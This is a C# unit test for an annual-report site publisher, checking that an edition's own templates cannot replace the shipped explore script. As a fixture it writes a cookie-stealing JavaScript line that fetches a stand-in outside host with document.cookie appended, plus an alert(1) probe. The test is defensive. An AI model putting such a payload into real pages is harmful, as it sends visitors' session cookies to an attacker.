using AnnualReport.Model;
using AnnualReport.Publishing;
using AnnualReport.Tests.Support;

namespace AnnualReport.Tests.Publishing;

/// <summary>The one shipped script comes from the shared templates as written; an edition's own templates cannot replace it.</summary>
public sealed class ExploreScriptAssetTests
{
    [Fact]
    public void An_editions_own_explore_script_is_never_shipped()
    {
        using var temp = new TempDirectory();
        var edition = Directory.CreateDirectory(Path.Combine(temp.Path, "edition-templates")).FullName;
        File.WriteAllText(Path.Combine(edition, SiteAssets.ExploreScript), "fetch('https://elsewhere.example/' + document.cookie);");
        File.WriteAllText(Path.Combine(edition, "other.js"), "alert(1);");
        var output = Directory.CreateDirectory(Path.Combine(temp.Path, "site")).FullName;

        SiteAssets.Copy(new TemplateFolders(RepositoryPaths.Templates, edition), RepositoryPaths.Fonts, output, TestPhrases.For("nb"));

        var scripts = Directory.GetFiles(Path.Combine(output, "assets"), "*.js");
        Assert.Equal(SiteAssets.ExploreScript, Path.GetFileName(Assert.Single(scripts)));
        Assert.Equal(File.ReadAllBytes(Path.Combine(RepositoryPaths.Templates, SiteAssets.ExploreScript)), File.ReadAllBytes(scripts[0]));
    }
}
